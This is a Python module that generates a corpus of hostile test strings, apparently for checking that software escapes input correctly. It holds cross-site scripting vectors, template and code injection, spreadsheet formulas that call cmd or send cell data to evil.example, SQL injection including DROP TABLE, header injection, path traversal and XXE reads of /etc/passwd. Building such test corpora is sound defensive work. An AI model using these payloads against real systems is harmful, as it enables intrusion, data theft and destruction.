"""Five hundred texts that try to become something else: script, a tag, a link, a formula, a header, a query.

Each that tries to run says `hit(n)` with a number of its own, so that a test can tell which one did.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationend", "onpointerenter")

ELEMENTS = (
    "<img src=x {event}={call}>",
    "<svg {event}={call}>",
    "<svg/{event}={call}//",
    "<body {event}={call}>",
    "<details open {event}={call}>x</details>",
    "<input autofocus {event}={call}>",
    "<video {event}={call}><source {event}={call}></video>",
    "<math {event}={call}><mi>x</mi></math>",
    "<x {event}={call} tabindex=1 autofocus>x</x>",
)
"""Elements that run what stands in an event."""

SCRIPTS = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script src=data:text/javascript,{call}></script>",
    "<script type=module>{call}</script>",
    "<svg><script>{call}</script></svg>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<script\n>{call}</script\n>",
    "<style>@import 'javascript:{call}'</style>",
    "<style>*{{background:url(javascript:{call})}}</style>",
    "<div style=\"background:url('javascript:{call}')\">x</div>",
    "<iframe src=\"javascript:{call}\"></iframe>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<object data=\"javascript:{call}\"></object>",
    "<embed src=\"javascript:{call}\">",
    "<a href=\"javascript:{call}\">x</a>",
    "<form action=\"javascript:{call}\"><button>x</button></form>",
    "<button formaction=\"javascript:{call}\">x</button>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{call}\">",
    "<base href=\"javascript:{call}//\">",
    "<link rel=stylesheet href=\"data:text/css,*{{color:red}}/*{call}*/\">",
    "<template><script>{call}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={call}>\">",
    "<isindex type=image src=1 onerror={call}>",
    "<table background=\"javascript:{call}\"><td>x</td></table>",
    "<!--[if gte IE 4]><script>{call}</script><![endif]-->",
    "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">{call}</x:script>",
    "<![CDATA[<script>{call}</script>]]>",
)  # fmt: skip
"""Elements that run what they hold, or what they point to."""

WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</option></select>",
)
"""How to get out of where one stands."""

ATTRIBUTES = (
    "\" onfocus={call} autofocus x=\"",
    "' onfocus={call} autofocus x='",
    "\" style=\"position:fixed;inset:0\" onmouseover=\"{call}",
    "x onerror={call}",
    "` onerror={call} `",
    "\"><svg onload={call}>",
    "&quot; onfocus={call} &quot;",
    "&#34;&#62;<img src=x onerror={call}>",
)  # fmt: skip
"""What stays inside a tag and gives it more to do."""

ADDRESSES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    " javascript:{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    "&#106;avascript:{call}",
    "javascript&colon;{call}",
    "javascript://example.org/%0A{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==#{call}",
    "vbscript:{call}",
    "//evil.example/{call}",
    "https://evil.example\\@example.org/{call}",
    'https://example.org/"onclick="{call}',
    "blob:https://example.org/{call}",
    "http://[::1]/<{call}>",
)
"""What a link must not lead to."""

CODED = (
    "%3Cscript%3E{call}%3C/script%3E",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#x3c;script&#x3e;{call}&#x3c;/script&#x3e;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{call}\\x3c/script\\x3e",
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "\u2028{call}//\u2029",
    "';{call}//",
    '";{call}//',
    "</script><script>{call}//",
    "*/{call}/*",
    "${{{call}}}",
    "`${{{call}}}`",
    "{{{{ {call} }}}}",
    "{{% set x = {call} %}}{{{{ x }}}}",
    "{{{{ config.items() }}}} {call}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} {call}",
    "<%= {call} %>",
    "#{{{call}}}",
    "__import__('os').system('{call}')",
)
"""What becomes script or code where somebody decodes it once too often."""

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example?x=\"&A1,\"open\")",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "%0A=1+1",
    "\"=1+1",
    "=1+1\",=2+2",
)  # fmt: skip
"""What a spreadsheet would work out."""

REST = (
    "%s %d %(name)s %%",
    "{0} {name} {0.__class__}",
    "'; DROP TABLE stakeholders; --",
    "' OR '1'='1",
    "\\'; SELECT pg_sleep(9); --",
    "% _ %% \\% \\_",
    "x\r\nBcc: everybody@example.org\r\n\r\nmore",
    "x\nSubject: another\n\n.",
    "BEGIN:VEVENT\r\nEND:VEVENT",
    "x;y,z\\n\\;",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\CON\\NUL",
    "\u202etxt.exe\u202c",
    "\u200b\u200c\u200d\ufeff",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309" * 20,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 10,
    "\u0645\u0631\u062d\u0628\u0627 shalom \u05e9\u05dc\u05d5\u05dd",
    "\u4f60\u597d\uff0c\u4e16\u754c",
    "i\u0307stanbul \u0130 \u0131 \u00df \u1e9e \ufb03",
    "long" * 500,
    "a " * 500,
    "<" * 300,
    "&" * 300,
    "\"" * 300,
    "'" * 300,
    "(((((((((((((((((((((((((((((",
    "[" * 200,
    "\\" * 200,
    "http://" + "a." * 200 + "example",
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1",
    "1e999",
    "\u0660\u0661\u0662",
    "<b>bold</b> <i>not</i> &amp; &nbsp; &copy;",
    "[x](javascript:hit(0)) ![x](x\"onerror=\"hit(0))",
    "&lt;&amp;&gt;&#0;&#xD800;&unknown;",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
    "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></x>",
)  # fmt: skip
"""What breaks formats, queries, paths, headers, lines of text."""


def corpus() -> tuple[str, ...]:
    """All of them, each once."""
    return tuple(dict.fromkeys(_numbered()))


def _numbered() -> Iterator[str]:
    for number, form in enumerate(_forms(), start=1):
        yield form.replace("\x00", f"hit({number})")
    yield from FORMULAS
    yield from REST


def _forms() -> Iterator[str]:
    """Every text that runs something, with a zero byte in the place of what it runs."""
    call = "\x00"
    for element, event in product(ELEMENTS, EVENTS):
        yield element.format(event=event, call=call)
    for way, script in product(WAYS_OUT, SCRIPTS):
        yield way + script.format(call=call)
    for form in (*ATTRIBUTES, *ADDRESSES, *CODED):
        yield form.format(call=call)
    for way, attribute in product(WAYS_OUT[1:], ATTRIBUTES):
        yield way + attribute.format(call=call)
